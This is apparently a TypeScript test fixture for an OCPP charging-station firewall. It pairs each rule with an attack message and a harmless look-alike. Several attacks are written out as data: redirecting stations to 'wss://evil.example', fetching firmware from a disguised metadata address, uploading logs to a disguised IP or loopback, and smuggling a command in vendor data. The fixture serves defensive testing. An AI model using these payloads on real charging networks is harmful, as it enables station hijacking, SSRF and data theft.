/**
 * One attack that each rule stops, and one look-alike that it lets pass, as data. They are played through a whole gateway, each on a
 * station of its own, the rule in `enforce`.
 */
import type { FirewallDocument } from "../../src/config/document.ts";
import type { Mode, RuleId } from "../../src/domain/firewall/rules.ts";
import type { OcppVersion } from "../../src/domain/ocpp/version.ts";

export type Step = readonly [from: "station" | "csms", action: string, payload: object];

export interface Vector {
  readonly rule: RuleId;
  readonly title: string;
  /** Default: 1.6. */
  readonly version?: OcppVersion;
  readonly firewall?: FirewallDocument;
  /** What has to have happened, and passes. */
  readonly before?: readonly Step[];
  /** Default: `enforce`. */
  readonly mode?: Mode;
  readonly attack: Step;
  /** Default: refused. What a station is billed for is only told of. */
  readonly fate?: "refused" | "told";
  /** Fields of the typed refusal; absent: a CALLERROR. */
  readonly answer?: object;
  /** Before the look-alike, where it differs. */
  readonly calm?: readonly Step[];
  readonly lookAlike: Step;
}

const now = (shiftMs = 0): string => new Date(Date.now() + shiftMs).toISOString();
const DAY = 86_400_000;
const PEM = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
const times = (n: number, step: Step): readonly Step[] => new Array<Step>(n).fill(step);
const change = (key: string, value: string): Step => ["csms", "ChangeConfiguration", { key, value }];
const setVariable = (component: string, variable: string, attributeValue: string): Step => [
  "csms",
  "SetVariables",
  { setVariableData: [{ component: { name: component }, variable: { name: variable }, attributeValue }] },
];
const STARTED_AT = now();
const start = (connectorId = 1, meterStart = 1000): Step => [
  "station",
  "StartTransaction",
  { connectorId, idTag: "TAG", meterStart, timestamp: STARTED_AT },
];
const stop = (fields: object): Step => [
  "station",
  "StopTransaction",
  { transactionId: 1, idTag: "TAG", meterStop: 1500, timestamp: now(60_000), ...fields },
];
const update16 = (location: string): Step => ["csms", "UpdateFirmware", { location, retrieveDate: now() }];
const update201 = (firmware: object): Step => [
  "csms",
  "UpdateFirmware",
  { requestId: 1, firmware: { location: "https://fw.example.com/a.bin", retrieveDateTime: now(), ...firmware } },
];
const profile = (limit: number, fields: object = {}): Step => [
  "csms",
  "SetChargingProfile",
  {
    connectorId: 1,
    csChargingProfiles: {
      chargingProfileId: 1,
      stackLevel: 0,
      chargingProfilePurpose: "TxDefaultProfile",
      chargingProfileKind: "Relative",
      chargingSchedule: { chargingRateUnit: "A", chargingSchedulePeriod: [{ startPeriod: 0, limit }] },
      ...fields,
    },
  },
];
const meter = (value: string, measurand = "Energy.Active.Import.Register", unit = "Wh"): Step => [
  "station",
  "MeterValues",
  { connectorId: 1, meterValue: [{ timestamp: now(), sampledValue: [{ value, measurand, unit }] }] },
];
const status = (timestamp: string): Step => [
  "station",
  "StatusNotification",
  { connectorId: 1, errorCode: "NoError", status: "Available", timestamp },
];
const transfer = (data: string, vendorId = "com.example"): Step => ["station", "DataTransfer", { vendorId, data }];
const install: Step = [
  "csms",
  "InstallCertificate",
  { certificateType: "CentralSystemRootCertificate", certificate: PEM },
];
const reset = (type: string): Step => ["csms", "Reset", { type }];
const REJECTED = { status: "Rejected" };

export const VECTORS: readonly Vector[] = [
  {
    rule: "R05",
    title: "a boot with another serial number, of a station that proved itself",
    firewall: { identity: { serialNumber: "SN-1" } },
    attack: ["station", "BootNotification", { ...boot16("SN-2") }],
    mode: "alert",
    fate: "told",
    lookAlike: ["station", "BootNotification", { ...boot16("SN-1") }],
  },
  {
    rule: "R05-unproven",
    title: "a boot with another serial number, of a station without credentials",
    firewall: { identity: { serialNumber: "SN-1" } },
    attack: ["station", "BootNotification", { ...boot16("SN-2") }],
    answer: { status: "Pending" },
    lookAlike: ["station", "BootNotification", { ...boot16("SN-1") }],
  },
  {
    rule: "R06",
    title: "a certificate nobody asked for",
    attack: ["csms", "CertificateSigned", { certificateChain: PEM }],
    answer: REJECTED,
    calm: [["station", "SignCertificate", { csr: "x" }]],
    lookAlike: ["csms", "CertificateSigned", { certificateChain: PEM }],
  },
  {
    rule: "R08",
    title: "more messages than a station sends",
    firewall: { burst: 5, stationCallsPer10Sec: 1 },
    before: times(4, ["station", "Heartbeat", {}]),
    attack: ["station", "Heartbeat", {}],
    calm: [],
    lookAlike: ["station", "Heartbeat", {}],
  },
  {
    rule: "R10-network",
    title: "a key that moves the station to another CSMS (1.6)",
    attack: change("CentralSystemURL", "wss://evil.example"),
    answer: REJECTED,
    lookAlike: change("HeartbeatInterval", "60"),
  },
  {
    rule: "R10-network",
    title: "a network profile (2.0.1)",
    version: "ocpp2.0.1",
    attack: [
      "csms",
      "SetNetworkProfile",
      {
        configurationSlot: 1,
        connectionData: {
          ocppVersion: "OCPP20",
          ocppTransport: "JSON",
          ocppCsmsUrl: "wss://evil.example",
          messageTimeout: 30,
          securityProfile: 3,
          ocppInterface: "Wired0",
        },
      },
    ],
    answer: REJECTED,
    lookAlike: setVariable("OCPPCommCtrlr", "HeartbeatInterval", "60"),
  },
  {
    rule: "R10-trust",
    title: "charging without authorisation when offline",
    attack: change("AllowOfflineTxForUnknownId", "true"),
    answer: REJECTED,
    lookAlike: change("MeterValueSampleInterval", "60"),
  },
  {
    rule: "R11",
    title: "a lower security profile",
    attack: change("SecurityProfile", "0"),
    answer: REJECTED,
    // A profile that is higher is set at the gateway, whose link it is of; it never reaches the station.
    lookAlike: change("SecurityProfileTimeout", "0"),
  },
  {
    rule: "R12",
    title: "two roots in one text",
    attack: ["csms", "InstallCertificate", { certificateType: "CentralSystemRootCertificate", certificate: PEM + PEM }],
    answer: REJECTED,
    lookAlike: install,
  },
  {
    rule: "R12",
    title: "a sixth change of roots in an hour",
    before: times(5, install),
    attack: install,
    answer: REJECTED,
    calm: times(4, install),
    lookAlike: install,
  },
  {
    rule: "R13",
    title: "firmware from the site's own network",
    attack: update16("https://192.168.1.1/fw.bin"),
    lookAlike: update16("https://firmware.example.com:8443/fw/v1.2.bin?sig=a&key=b"),
  },
  {
    rule: "R13",
    title: "firmware from the cloud's metadata service in disguise (2.0.1)",
    version: "ocpp2.0.1",
    attack: update201({ location: "https://0xA9.254.169.254/latest" }),
    answer: REJECTED,
    lookAlike: update201({}),
  },
  {
    rule: "R14",
    title: "logs to somebody's own server under a password",
    attack: ["csms", "GetDiagnostics", { location: "https://logs.example.com@203.0.113.9/up" }],
    lookAlike: ["csms", "GetDiagnostics", { location: "sftp://logs.example.com/up" }],
  },
  {
    rule: "R14",
    title: "logs to the station's own loopback (2.0.1)",
    version: "ocpp2.0.1",
    attack: [
      "csms",
      "GetLog",
      { logType: "DiagnosticsLog", requestId: 1, log: { remoteLocation: "https://[::ffff:127.0.0.1]/x" } },
    ],
    answer: REJECTED,
    lookAlike: [
      "csms",
      "GetLog",
      { logType: "DiagnosticsLog", requestId: 1, log: { remoteLocation: "https://logs.example.com/x" } },
    ],
  },
  {
    rule: "R15",
    title: "firmware without a signature",
    version: "ocpp2.0.1",
    firewall: { signedFirmwareOnly: true },
    attack: update201({}),
    answer: REJECTED,
    lookAlike: update201({ signature: "c2ln", signingCertificate: PEM }),
  },
  {
    rule: "R16-rate",
    title: "a fourth reset in an hour",
    before: times(3, reset("Soft")),
    attack: reset("Soft"),
    answer: REJECTED,
    calm: times(2, reset("Soft")),
    lookAlike: reset("Soft"),
  },
  {
    rule: "R16-rate",
    title: "an eleventh time out of service; back in service always works",
    before: times(10, ["csms", "ChangeAvailability", { connectorId: 1, type: "Inoperative" }]),
    attack: ["csms", "ChangeAvailability", { connectorId: 1, type: "Inoperative" }],
    answer: REJECTED,
    lookAlike: ["csms", "ChangeAvailability", { connectorId: 1, type: "Operative" }],
  },
  {
    rule: "R16-busy",
    title: "a hard reset under a vehicle",
    before: [start()],
    attack: reset("Hard"),
    answer: REJECTED,
    lookAlike: reset("Soft"),
  },
  {
    rule: "R17-values",
    title: "a limit above what the connector can carry",
    firewall: { ratedCurrentA: 32 },
    attack: profile(500),
    answer: REJECTED,
    lookAlike: profile(32),
  },
  {
    rule: "R17-values",
    title: "a limit below zero",
    attack: profile(-16),
    answer: REJECTED,
    lookAlike: profile(0),
  },
  {
    rule: "R17-values",
    title: "a profile of a transaction that does not run",
    before: [start()],
    attack: profile(10, { chargingProfilePurpose: "TxProfile", transactionId: 77 }),
    answer: REJECTED,
    lookAlike: profile(10, { chargingProfilePurpose: "TxProfile", transactionId: 1 }),
  },
  {
    rule: "R17-rate",
    title: "limits that swing",
    firewall: { profilesPerMin: 100 },
    before: [...times(4, profile(6)), ...[32, 6, 32, 6, 32, 6, 32].map((limit) => profile(limit))],
    attack: profile(6),
    answer: REJECTED,
    calm: [6, 8, 10, 12, 14, 16, 20, 24].map((limit) => profile(limit)),
    lookAlike: profile(32),
  },
  {
    rule: "R17-rate",
    title: "an eleventh profile in a minute",
    before: times(10, profile(16)),
    attack: profile(16),
    answer: REJECTED,
    calm: times(9, profile(16)),
    lookAlike: profile(16),
  },
  {
    rule: "R18",
    title: "a remote start where a vehicle charges",
    before: [start(1)],
    attack: ["csms", "RemoteStartTransaction", { idTag: "TAG", connectorId: 1 }],
    answer: REJECTED,
    lookAlike: ["csms", "RemoteStartTransaction", { idTag: "TAG", connectorId: 2 }],
  },
  {
    rule: "R18",
    title: "a remote stop of a transaction that does not run",
    before: [start(1)],
    attack: ["csms", "RemoteStopTransaction", { transactionId: 99 }],
    answer: REJECTED,
    lookAlike: ["csms", "RemoteStopTransaction", { transactionId: 1 }],
  },
  {
    rule: "R19",
    title: "a stop whose meter ran backwards",
    before: [start()],
    attack: stop({ meterStop: 10 }),
    fate: "told",
    lookAlike: stop({}),
  },
  {
    rule: "R19",
    title: "a stop of a transaction that nobody started",
    attack: stop({ transactionId: 4711 }),
    fate: "told",
    calm: [start()],
    lookAlike: stop({}),
  },
  {
    rule: "R19",
    title: "more energy than the connector can deliver",
    firewall: { ratedPowerW: 11_000 },
    before: [start()],
    attack: stop({ meterStop: 901_000 }),
    fate: "told",
    lookAlike: stop({ meterStop: 1150 }),
  },
  {
    rule: "R20-vendor",
    title: "data of a vendor who is not listed",
    firewall: { vendors: [{ vendorId: "com.example" }] },
    attack: transfer("x", "com.evil"),
    answer: { status: "UnknownVendorId" },
    lookAlike: transfer("x"),
  },
  {
    rule: "R20-content",
    title: "a command hidden in a vendor's data",
    attack: transfer('{"action":"ChangeConfiguration","key":"AuthorizationKey"}'),
    answer: REJECTED,
    lookAlike: transfer('{"note":"we change configuration tomorrow"}'),
  },
  {
    rule: "R20-content",
    title: "data that is too long",
    attack: transfer("x".repeat(4097)),
    answer: REJECTED,
    lookAlike: transfer("x".repeat(4096)),
  },
  {
    rule: "R21-format",
    title: "the year that poisons databases",
    attack: status("222222017-01-01T00:00:00Z"),
    lookAlike: status(now().replace("Z", "+00:00")),
  },
  {
    rule: "R21-range",
    title: "a time far from now",
    attack: status(now(3 * DAY)),
    lookAlike: status(now(-3 * DAY)),
  },
  {
    rule: "R22",
    title: "an energy register that runs backwards",
    before: [meter("5000")],
    attack: meter("4000"),
    lookAlike: meter("5000.1"),
  },
  {
    rule: "R22",
    title: "more power than the connector has",
    firewall: { ratedPowerW: 22_000 },
    attack: meter("43", "Power.Active.Import", "kW"),
    lookAlike: meter("22.1", "Power.Active.Import", "kW"),
  },
  {
    rule: "R22",
    title: "a battery that fills in a minute",
    before: [meter("20", "SoC", "Percent")],
    attack: meter("80", "SoC", "Percent"),
    lookAlike: meter("21", "SoC", "Percent"),
  },
  {
    rule: "R23-direction",
    title: "a CSMS that starts a transaction",
    attack: ["csms", "StartTransaction", { connectorId: 1, idTag: "TAG", meterStart: 0, timestamp: now() }],
    lookAlike: ["csms", "RemoteStartTransaction", { idTag: "TAG" }],
  },
  {
    rule: "R23-direction",
    title: "a station that orders a reset",
    attack: ["station", "Reset", { type: "Hard" }],
    lookAlike: ["station", "DataTransfer", { vendorId: "com.example" }],
  },
  {
    rule: "R23-transaction",
    title: "a start where a transaction is open",
    before: [start(1)],
    attack: start(1, 2000),
    fate: "told",
    calm: [start(1), stop({})],
    lookAlike: start(1, 2000),
  },
  {
    rule: "R23-transaction",
    title: "an update of a transaction that nobody started (2.0.1)",
    version: "ocpp2.0.1",
    attack: event("Updated", "T-9", 5),
    fate: "told",
    calm: [event("Started", "T-9", 0)],
    lookAlike: event("Updated", "T-9", 1),
  },
  {
    rule: "R24",
    title: "an action that the version does not have",
    attack: ["csms", "FormatDisk", {}],
    lookAlike: ["csms", "ClearCache", {}],
  },
  {
    rule: "R25",
    title: "a command that this CSMS has no right to",
    firewall: { rights: { csms: { deny: ["SendLocalList", "ChangeConfiguration/LocalAuthListEnabled"] } } },
    attack: change("LocalAuthListEnabled", "true"),
    answer: REJECTED,
    lookAlike: change("HeartbeatInterval", "60"),
  },
  {
    rule: "R26",
    title: "trying out of cards",
    before: Array.from({ length: 20 }, (_, i) => ["station", "Authorize", { idTag: `CARD-${i}` }] as const),
    attack: ["station", "Authorize", { idTag: "CARD-20" }],
    fate: "told",
    lookAlike: ["station", "Authorize", { idTag: "CARD-7" }],
  },
  {
    rule: "R26-text",
    title: "a card in a place for free text",
    before: [["station", "Authorize", { idTag: "CARD-4711" }]],
    attack: [
      "station",
      "StatusNotification",
      { connectorId: 1, status: "Available", errorCode: "NoError", info: "reader: last=CARD-4711;ok" },
    ],
    lookAlike: [
      "station",
      "StatusNotification",
      { connectorId: 1, status: "Available", errorCode: "NoError", info: "reader: last=CARD-4712;ok" },
    ],
  },
];

function boot16(chargePointSerialNumber: string) {
  return { chargePointVendor: "Vendor", chargePointModel: "Model", chargePointSerialNumber };
}

function event(eventType: string, transactionId: string, seqNo: number): Step {
  return [
    "station",
    "TransactionEvent",
    {
      eventType,
      timestamp: now(),
      triggerReason: "Authorized",
      seqNo,
      transactionInfo: { transactionId },
      evse: { id: 1, connectorId: 1 },
    },
  ];
}
